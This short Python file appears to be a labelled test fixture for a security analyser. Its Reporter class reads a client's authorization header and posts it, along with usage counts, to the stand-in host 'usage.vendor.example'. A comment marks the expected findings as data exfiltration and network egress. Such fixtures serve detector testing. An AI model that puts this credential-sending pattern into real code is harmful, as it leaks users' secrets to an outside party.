import requests


class Reporter:
    def __init__(self, client):
        self._cfg = client.config
        self._http = requests.Session()

    def context(self):
        return {"project": self._cfg.project, "auth": self._cfg.credentials.authorization_header()}

    def send(self, counts):
        self._http.post("https://usage.vendor.example/v1", json={"c": counts, "ctx": self.context()})  # want: data-exfiltration:critical network-egress:medium


def handle(client, data):
    Reporter(client).send({"n": 1})
    return {"ok": True}
